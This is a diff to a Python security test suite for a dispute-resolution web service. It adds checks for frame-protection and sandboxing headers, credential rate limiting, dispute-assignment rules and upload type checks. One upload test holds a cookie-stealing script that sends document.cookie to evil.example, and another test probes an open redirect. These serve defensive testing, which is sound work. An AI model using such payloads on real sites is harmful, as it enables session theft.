@@ -25,7 +25,7 @@ import hashlib
 import json
 import re
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from datetime import timedelta
 from typing import Any
 
@@ -45,6 +45,7 @@ from peifu.adapters.db.models import (
     Complaint,
     Dispute,
     Evidence,
+    IdempotencyRecord,
     Order,
     SellerAutoRule,
     User,
@@ -373,7 +374,15 @@ def _case_dispute(resp: httpx.Response, obj: Obj | None, caller: str, world: Wor
 
 def _content(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
     assert obj is not None
-    return None if resp.content == obj.content else "downloaded something else"
+    if resp.content != obj.content:
+        return "downloaded something else"
+    if resp.headers.get("x-content-type-options") != "nosniff":
+        return "a stored file served without nosniff"
+    if not resp.headers.get("content-disposition", "").startswith(("inline;", "attachment;")):
+        return "a stored file served without a Content-Disposition"
+    if "sandbox" not in resp.headers.get("content-security-policy", ""):
+        return "a stored file served without a sandboxing policy"
+    return None
 
 
 def _shop_json(resp: httpx.Response, obj: Obj | None, caller: str, world: World) -> str | None:
@@ -981,6 +990,10 @@ class Matrix:
         assert not self.client.cookies, "a cookie would authenticate the request"
         resp = self.client.request(method, url, headers=headers, **kwargs)
         self.requests += 1
+        if resp.headers.get("x-frame-options") != "DENY" or "frame-ancestors 'none'" not in resp.headers.get(
+            "content-security-policy", ""
+        ):
+            self.fail(caller, method, url, resp, "an answer without frame protection")
         return resp, url + " " + sent
 
     def fail(self, caller: str | None, method: str, url: str, resp: httpx.Response, why: str) -> None:
@@ -1017,12 +1030,16 @@ class Matrix:
     # -- one cell of the matrix ------------------------------------------------------------------------
 
     def anonymous(self, method: str, path: str, spec: Spec) -> None:
+        """No credentials, and junk ones: a 401 — and, for a POST under an Idempotency-Key, no key
+        kept (the caller is resolved before the idempotency layer; see test_security_matrix)."""
         obj = self.world.of(spec.target)[0] if spec.target else None
-        resp, sent = self.send(None, method, path, spec, obj, obj.ref if obj else None)
-        self.count("anonymous")
-        self.checks += 1
-        if resp.status_code != 401:
-            self.fail(None, method, sent, resp, "expected 401 without credentials")
+        for name, headers in [("anonymous", {}), ("junk", {"Authorization": "Bearer junk-token"})]:
+            self.headers[name] = {**headers, "Idempotency-Key": f"anon-{method}-{path}"}
+            resp, sent = self.send(name, method, path, spec, obj, obj.ref if obj else None)
+            self.count(name)
+            self.checks += 1
+            if resp.status_code != 401:
+                self.fail(name, method, sent, resp, "expected 401 without valid credentials")
 
     def foreign(self, caller: str, method: str, path: str, spec: Spec, obj: Obj) -> None:
         resp, sent = self.send(caller, method, path, spec, obj, obj.ref)
@@ -1126,8 +1143,11 @@ def test_security_matrix(sec_rt: Runtime) -> None:
                         m.read(caller, method, path, spec, obj)
                 if kind in spec.allowed and spec.write:
                     writes.append((caller, method, path, spec))
-        # Foreign requests, refusals and reads changed nothing at all.
+        # Foreign requests, refusals and reads changed nothing at all, and no unauthenticated
+        # request kept an idempotency key.
         assert fingerprint(sec_rt) == before
+        with sec_rt.factory() as session:
+            assert session.scalar(select(func.count()).select_from(IdempotencyRecord)) == 0
         assert not m.problems, "\n".join(m.problems[:60])
 
         # Own writes: each caller on a freshly seeded world, the ones that must succeed first.
@@ -1243,6 +1263,12 @@ def test_pages_behind_the_login(sec_rt: Runtime) -> None:
         # never sent off-site after logging in
         away = client.post("/login?next=//evil.example/x", data={"username": "u-buyer-a", "password": PASSWORD})
         assert away.status_code == 303 and away.headers["location"] == "/buyer"
+        # every page, signed in or not, refuses to be framed and runs no inline script
+        for method, path in [*PAGES, ("GET", "/login"), ("GET", "/policy")]:
+            page = client.request(method, path)
+            policy = page.headers.get("content-security-policy", "")
+            assert page.headers.get("x-frame-options") == "DENY", path
+            assert "frame-ancestors 'none'" in policy and "'unsafe-inline'" not in policy, (path, policy)
 
 
 def test_sandbox_clock_needs_the_platform(rt: Runtime, database_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -1374,3 +1400,86 @@ def test_the_actor_header_is_refused_when_not_trusted(sec_rt: Runtime) -> None:
         )
         assert resp.status_code == 404
         assert client.get(f"{API_PREFIX}/orders/OA-plain", headers=bearer(keys.shop_a)).status_code == 200
+
+
+# --- found by attack (issue 21): bad credentials, assignment, uploads ---------------------------------
+
+
+def test_bad_credentials_of_every_kind_share_their_address_bucket(
+    real_sec_rt: Runtime, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A caller without valid credentials is counted by its address, whatever it sends instead."""
+    monkeypatch.setattr(auth, "_hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
+    limited = replace(real_sec_rt.settings, rate_limit_per_minute=4)
+    monkeypatch.setattr(real_sec_rt, "settings", limited)
+    keys = make_accounts(real_sec_rt)
+    revoked_id = keys.shop_a.partition(".")[0]
+    with real_sec_rt.uow() as ctx:
+        row = ctx.session.get(ApiKey, revoked_id)
+        assert row is not None
+        row.revoked_at = ctx.now()
+    kinds: list[Callable[[int], dict[str, str]]] = [
+        lambda i: {"Authorization": f"Bearer junk-{i}"},
+        lambda i: {"Authorization": f"Bearer pk_{i:012d}.secret"},
+        lambda i: {"Authorization": f"Basic {i}"},
+        lambda i: {"Authorization": f"Bearer {keys.shop_a}{'x' * i}"},
+        lambda i: {"Cookie": f"peifu_session=made-up-{i}"},
+        lambda i: {"X-Peifu-Actor": f"platform:platform-{i}"},  # not trusted here
+    ]
+    for n, kind in enumerate(kinds):
+        address = f"198.51.100.{n + 1}"
+        with TestClient(create_app(real_sec_rt), raise_server_exceptions=False, client=(address, 1234)) as client:
+            answers = [client.get(f"{API_PREFIX}/cases", headers=kind(i)).status_code for i in range(5)]
+            assert answers == [401, 401, 401, 401, 429], (n, answers)
+            # the platform's valid key from the same address still has its own bucket
+            assert client.get(f"{API_PREFIX}/auth/me", headers=bearer(keys.platform)).status_code == 200
+
+
+def test_disputes_are_assigned_only_to_agents_who_are_not_parties(sec_rt: Runtime) -> None:
+    keys = make_accounts(sec_rt)
+    world = seed(sec_rt)
+    with sec_rt.uow() as ctx:  # an agent account whose id is side A's buyer id
+        auth.create_user(ctx.session, "b-alpha", "agent", PASSWORD, ctx.now())
+    dispute = world.named("DA").ref
+    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
+        h = caller_headers(client, keys)
+        before = fingerprint(sec_rt)
+        for caller in ("agent", "admin"):
+            for agent_id, code in [
+                ("u-buyer-a", "assignee_not_an_agent"),
+                ("u-seller-a", "assignee_not_an_agent"),
+                ("s-alpha", "assignee_not_an_agent"),
+                ("nobody", "assignee_not_an_agent"),
+                ("b-alpha", "assignee_is_a_party"),
+            ]:
+                resp = client.post(
+                    f"{API_PREFIX}/disputes/{dispute}/assign", json={"agent_id": agent_id}, headers=h[caller]
+                )
+                assert (resp.status_code, error_code(resp)) == (422, code), (caller, agent_id, resp.text)
+        assert fingerprint(sec_rt) == before
+        resp = client.post(f"{API_PREFIX}/disputes/{dispute}/assign", json={"agent_id": "u-admin"}, headers=h["agent"])
+        assert resp.status_code == 200 and resp.json()["assigned_agent"] == "u-admin"
+
+
+def test_an_upload_whose_bytes_are_not_its_type_is_refused_for_every_caller(sec_rt: Runtime) -> None:
+    keys = make_accounts(sec_rt)
+    world = seed(sec_rt)
+    html = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"
+    dispute = world.named("DA").ref
+    with TestClient(create_app(sec_rt), raise_server_exceptions=False) as client:
+        h = caller_headers(client, keys)
+        before = fingerprint(sec_rt)
+        for caller in ("buyer_a", "seller_a", "shop_a_key", "agent", "admin"):
+            for media in ("image/png", "image/jpeg", "application/pdf", "video/mp4"):
+                resp = client.post(
+                    f"{API_PREFIX}/disputes/{dispute}/evidence/files",
+                    data={"kind": "document" if media == "application/pdf" else media.split("/")[0]},
+                    files={"file": ("x.png", html, media)},
+                    headers=h[caller],
+                )
+                assert (resp.status_code, error_code(resp)) == (415, "content_type_mismatch"), (
+                    caller,
+                    media,
+                    resp.text,
+                )
+        assert fingerprint(sec_rt) == before
